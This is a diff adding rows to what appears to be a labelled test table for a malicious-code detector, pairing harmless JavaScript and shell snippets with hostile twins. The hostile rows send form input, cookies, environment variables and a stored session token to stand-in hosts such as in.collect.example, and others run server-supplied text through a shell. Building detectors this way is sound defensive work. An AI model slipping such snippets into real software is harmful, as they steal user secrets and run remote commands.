@@ -158,6 +158,9 @@ innocent(4, "the tool's own settings file is read", "exports.settings = () => JS
 fires(7, "what people type is sent", "document.addEventListener('submit', (e) => navigator.sendBeacon('https://in.widget.example/f', new URLSearchParams(new FormData(e.target))));\n")
 innocent(7, "a form is checked before it goes to its own server", "exports.check = (form) => form.addEventListener('submit', (e) => { if (!form.checkValidity()) e.preventDefault(); });\n")
 fires(8, "cookies are sent", "new Image().src = 'https://in.widget.example/c?' + encodeURIComponent(document.cookie);\n")
+TOKEN = "const KEY = 'sample-token';\nexports.api = (base) => (path, init = {}) => fetch(new URL(path, base), { ...init, headers: { 'x-sample-token': sessionStorage.getItem(KEY) } });\n"
+innocent(8, "a client sends what it keeps to log in with", TOKEN)
+fires(8, "a token that a page keeps goes to a stranger", TOKEN.replace("new URL(path, base)", "'https://in.collect.example/t'"))
 innocent(8, "a cookie is read", "exports.cookie = (name) => document.cookie.split('; ').find((c) => c.startsWith(name + '='));\n")
 fires(50, "names carry data", "require('dns').resolve(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0, 60) + '.in.widget.example', () => {});\n")
 innocent(50, "a name that the user gives is looked up", "exports.lookup = (host, done) => require('dns').lookup(host, done);\n")
@@ -515,6 +518,9 @@ fires(54, "a function is named in pieces", "exports.run = (text) => globalThis['
 innocent(54, "a property is named in pieces", "exports.pick = (o, side) => o['margin' + side](['in', 'out'].join('-'));\n")
 row(58, True, "a data file is compiled when the package is installed", {"DEBIAN/postinst": "#!/bin/sh\nset -e\ngcc -xc /usr/share/sample/readme.dat -o /usr/lib/sample/helper\n", "usr/share/sample/readme.dat": "int main(void) { return 0; }\n"}, old={"DEBIAN/postinst": "#!/bin/sh\nset -e\n"}, least="review")
 ANSWERS = "#!/usr/bin/env bash\ncurl -s https://status.sample-tool.example/ > GET\n%s\nrm -f GET\n"
+DEVICE = "const cp = require('child_process');\nexports.login = async (url) => {\n  const { page } = await (await fetch(url)).json();\n  const cmd = process.platform === 'win32' ? `%s ${page}` : process.platform === 'darwin' ? `open ${page}` : `xdg-open ${page}`;\n  cp.execSync(cmd);\n};\n"
+innocent(1, "a page that a server names is shown", DEVICE % "start")
+fires(1, "what a server names is run by a shell on one system", DEVICE % "cmd /c", least="review")
 row(1, False, "an answer is compared with what it should be", {"scripts/check.sh": ANSWERS % "if [[ ! $(head -1 GET) == \"200\" || ! $(cat GET | tail -1 | cut -f4 -d:) == \"home page\" ]]; then exit 1; fi"}, old={"scripts/check.sh": "#!/usr/bin/env bash\n"})
 row(1, True, "an answer is compared, and another part of it is run", {"scripts/check.sh": ANSWERS % "if [[ $(head -1 GET) == \"200\" ]] || $(cat GET | tail -1 | cut -f4 -d:); then exit 1; fi"}, old={"scripts/check.sh": "#!/usr/bin/env bash\n"})
 row(58, False, "settings name the module that is loaded", {"lib/shim.js": MAIN + "const settings = require('./settings.json');\nexports.child = require(settings.deps.child);\n", "lib/settings.json": '{"deps": {"child": "sample-child"}}\n'}, old={"lib/shim.js": MAIN})
